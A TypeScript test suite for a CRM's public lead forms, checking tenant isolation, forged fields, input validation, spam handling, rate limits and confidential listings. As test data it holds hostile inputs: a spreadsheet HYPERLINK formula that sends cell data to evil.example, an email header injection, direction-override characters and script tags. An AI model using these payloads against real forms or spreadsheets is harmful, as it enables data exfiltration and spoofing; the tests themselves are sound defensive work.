import { beforeAll, describe, expect, it } from 'vitest';
import { csvCell } from '#shared/format/csv.ts';
import { anonymous, service, uniqueEmail } from '../../support/backend.ts';
import { clearTicketLimits } from '../sql.ts';
import {
  brokerOf,
  type Client,
  listingBy,
  memberOf,
  type Person,
  person,
  succeed,
  tenantOwner,
} from '../world.ts';

let owner: Person;
let teammate: Person;
let outsider: Person;

const add = (who: Person, values: object = {}) =>
  who.client
    .from('lead_forms')
    .insert({ name: 'Home', title: 'What are you looking for?', is_open: true, ...values })
    .select('id')
    .single();
const form = async (values: object = {}) => (await succeed(add(owner, values))).id;
const sent = (form_id: string, answers: object = {}, more: object = {}) => ({
  form_id,
  request_id: crypto.randomUUID(),
  answers: { name: 'Ada Asker', email: uniqueEmail('asker'), ...answers },
  seconds: 40,
  ...more,
});
const send = (call: ReturnType<typeof sent>, client: Client = anonymous()) =>
  client.rpc('submit_lead_form', call);
const read = (form_id: string, client: Client = anonymous()) =>
  succeed(client.rpc('lead_form', { form_id }));
const leadsBy = (id: string, who = owner) =>
  succeed(who.client.from('leads').select().eq('form_id', id).order('received_at'));
const codeOf = async (call: PromiseLike<{ error: { code: string } | null }>) =>
  (await call).error?.code;

beforeAll(async () => {
  [owner, outsider] = await Promise.all([tenantOwner(), tenantOwner()]);
  teammate = await memberOf(owner.tenantId);
  await clearTicketLimits();
});

describe("another team's forms", () => {
  it("can't be read, counted, changed, opened or deleted", async () => {
    const id = await form();
    const { client } = outsider;
    expect(await succeed(client.from('lead_forms').select().eq('id', id))).toEqual([]);
    expect(await succeed(client.rpc('count_lead_forms'))).toBe(0);
    const change = (values: object) =>
      succeed(client.from('lead_forms').update(values).eq('id', id).select('id'));
    expect(await change({ title: 'Mine now' })).toEqual([]);
    expect(await change({ deleted_at: new Date().toISOString() })).toEqual([]);
    expect(await read(id)).toMatchObject({ title: 'What are you looking for?' });
  });

  it("don't reveal their leads, not even to a signed-in sender", async () => {
    const id = await form();
    await succeed(send(sent(id), outsider.client));
    expect(await leadsBy(id, outsider)).toEqual([]);
    expect(await leadsBy(id)).toMatchObject([{ owner_id: owner.id }]);
    const changes = owner.client
      .from('record_changes')
      .select('by')
      .eq('record_id', String((await leadsBy(id))[0]?.id));
    expect(await succeed(changes)).toEqual([{ by: null }]);
  });
});

describe('a closed form', () => {
  it('is not found and accepts nothing: off, deleted, owner suspended, or no owner', async () => {
    const off = await form({ is_open: false });
    const deletedForm = await form();
    const thrown = { deleted_at: new Date().toISOString() };
    await succeed(
      owner.client.from('lead_forms').update(thrown).eq('id', deletedForm).select('id'),
    );
    const shut = await person('broker');
    const suspended = (await succeed(add(shut))).id;
    const banned = { suspended_at: new Date().toISOString() };
    await succeed(service().from('profiles').update(banned).eq('id', shut.id).select('id'));
    for (const id of [off, deletedForm, suspended, crypto.randomUUID()]) {
      expect(await read(id)).toBeNull();
      expect(await codeOf(send(sent(id)))).toBe('HXLFG');
    }
  });
});

describe('forged form data', () => {
  it('is ignored: owner, team, status, source, time received, and unknown questions', async () => {
    const id = await form({ questions: ['phone'] });
    const forgedFields = {
      id: crypto.randomUUID(),
      owner_id: outsider.id,
      tenant_id: outsider.tenantId,
      workspace_id: outsider.id,
      status: 'converted',
      source: 'referral',
      received_at: '2020-01-01T00:00:00Z',
      respond_by: '2020-01-01T00:00:00Z',
      contact_id: crypto.randomUUID(),
      message: 'Request not sent',
      tags: ['vip'],
    };
    await succeed(send(sent(id, { ...forgedFields, phone: '555-0134' })));
    const [lead] = await leadsBy(id);
    expect(lead).toMatchObject({
      owner_id: owner.id,
      tenant_id: owner.tenantId,
      status: 'new',
      source: 'form',
      contact_id: null,
      message: null,
      tags: [],
      phone: '555-0134',
    });
    expect(lead?.id).not.toBe(forgedFields.id);
    expect(Date.parse(lead?.received_at as string)).toBeGreaterThan(Date.now() - 60_000);
  });

  it('is rejected: line breaks in a name, direction characters, overlong text, invalid email, wrong types', async () => {
    const id = await form({ questions: ['message', 'needs_states', 'price_most', 'needs_types'] });
    const rejectedCases: [object, string][] = [
      [{ name: 'Ada\nBcc: all@example.com' }, '23514'],
      [{ name: 'Ada \u202Eexe.gpj' }, '23514'],
      [{ message: 'Read \u2066backwards' }, '23514'],
      [{ message: 'a'.repeat(10_001) }, '23514'],
      [{ message: 'a'.repeat(50_000) }, 'HXLFW'],
      [{ name: 'a'.repeat(121) }, '23514'],
      [{ name: '   ' }, 'HXLFW'],
      [{ email: '' }, 'HXLFW'],
      [{ email: 'not-an-email' }, '23514'],
      [{ needs_states: ['<script>'] }, '23514'],
      [{ needs_types: ['castle'] }, '23514'],
      [{ price_most: -1 }, '23514'],
    ];
    for (const [answers, code] of rejectedCases) {
      expect(await codeOf(send(sent(id, answers))), JSON.stringify(answers).slice(0, 60)).toBe(
        code,
      );
    }
    expect(await leadsBy(id)).toEqual([]);
  });

  it('stays text in the lead and its notification, never a script', async () => {
    const id = await form({ questions: ['message'] });
    const script = '<script>alert(1)</script>';
    await succeed(send(sent(id, { name: script, message: script })));
    expect(await leadsBy(id)).toMatchObject([{ name: script, message: script }]);
    const notificationQuery = owner.client
      .from('notifications')
      .select('title')
      .eq('kind', 'lead_assigned')
      .like('title', '%script%');
    expect(await succeed(notificationQuery)).toEqual([{ title: `${script} is your lead` }]);
  });

  it("is exported as text if it would be a formula in the broker's spreadsheet", async () => {
    const id = await form();
    const formula = '=HYPERLINK("https://evil.example?x="&A1,"Open")';
    await succeed(send(sent(id, { name: formula })));
    const [lead] = await leadsBy(id);
    expect(csvCell(lead?.name ?? '')).toMatch(/^"'=/);
  });

  it("can't bypass required consent", async () => {
    const id = await form({ consent: 'I agree.' });
    expect(await codeOf(send(sent(id)))).toBe('HXLFC');
    expect(await codeOf(send(sent(id, {}, { agrees: true })))).toBeUndefined();
  });
});

describe('bots', () => {
  it("don't bother anyone: obvious ones are marked as junk, with the same response", async () => {
    const team = await tenantOwner();
    const { id } = await succeed(add(team, { questions: ['message'], thanks: 'Thanks.' }));
    const links = 'https://spam.example/ '.repeat(6);
    for (const call of [
      sent(id, {}, { website: 'https://spam.example' }),
      sent(id, {}, { seconds: 1 }),
      sent(id, { message: links }),
    ]) {
      expect(await succeed(send(call))).toBe('Thanks.');
    }
    const leads = await leadsBy(id, team);
    expect(leads).toHaveLength(3);
    for (const lead of leads) {
      expect(lead).toMatchObject({ status: 'unqualified', unqualified_reason: 'spam' });
    }
    const notificationQuery = team.client
      .from('notifications')
      .select('id')
      .eq('kind', 'lead_assigned');
    expect(await succeed(notificationQuery)).toEqual([]);
  });

  it("can't flood one form from one address, or all forms from many", async () => {
    await clearTicketLimits();
    const id = await form();
    const codes: (string | undefined)[] = [];
    // Spans at most two clock hours, so one of them reaches the limit.
    for (let n = 0; n < 21 && !codes.includes('HXLFT'); n += 1)
      codes.push(await codeOf(send(sent(id))));
    expect(codes).toContain('HXLFT');
    expect((await leadsBy(id)).length).toBeLessThanOrEqual(20);
    const others = await Promise.all(Array.from({ length: 7 }, () => form()));
    let last: string | undefined;
    for (let n = 0; n < 61 && last === undefined; n += 1) {
      last = await codeOf(send(sent(others[n % others.length] as string)));
    }
    expect(last).toBe('HXLFT');
    await clearTicketLimits();
  });
});

describe('a form about a listing', () => {
  it("can reference only the owner's own listing", async () => {
    const foreign = await listingBy(await brokerOf(outsider.id));
    expect(await codeOf(add(owner, { listing_id: foreign }))).toBe('HXLFL');
    const id = await form();
    const linkListing = (who: Person, listing_id: string) =>
      who.client.from('lead_forms').update({ listing_id }).eq('id', id).select('id');
    expect(await codeOf(linkListing(owner, foreign))).toBe('HXLFL');
    expect(await codeOf(linkListing(teammate, await listingBy(await brokerOf(owner.id))))).toBe(
      'HXLFL',
    );
  });

  it("shows a confidential listing's public teaser, and not who sells it", async () => {
    await succeed(
      service()
        .from('profiles')
        .update({ full_name: 'Zoe Seller' })
        .eq('id', owner.id)
        .select('id'),
    );
    const listing_id = await listingBy(await brokerOf(owner.id), {
      is_confidential: true,
      property_name: 'Lakeside portfolio',
    });
    const id = await form({ listing_id, sharing: 'team' });
    const seen = (await read(id)) as { listing: Record<string, string> };
    const visitor = anonymous().from('listings').select('id, name:property_name, location');
    expect(seen.listing).toEqual(await succeed(visitor.eq('id', listing_id).single()));
    expect(seen).toMatchObject({ by: null, company: null });
    expect(JSON.stringify(seen)).not.toContain('Zoe');
    // The team can't use it to find the seller either.
    expect(await succeed(teammate.client.from('lead_forms').select('id').eq('id', id))).toEqual([]);
    const hidden = { approval_status: 'pending' as const };
    await succeed(service().from('listings').update(hidden).eq('id', listing_id).select('id'));
    expect(await read(id)).toMatchObject({ listing: null, by: null });
  });

  it("keeps a lead about a confidential listing with its broker, whatever the team's routing", async () => {
    const members = [{ user_id: teammate.id, states: [] }];
    const rules = { p_mode: 'rota', p_minutes: 30, p_members: members };
    await succeed(owner.client.rpc('set_lead_rules', rules));
    const listing_id = await listingBy(await brokerOf(owner.id), { is_confidential: true });
    const id = await form({ listing_id });
    await clearTicketLimits();
    await succeed(send(sent(id)));
    expect(await leadsBy(id, teammate)).toEqual([]);
    expect(await leadsBy(id)).toMatchObject([{ owner_id: owner.id, sharing: 'private' }]);
  });
});
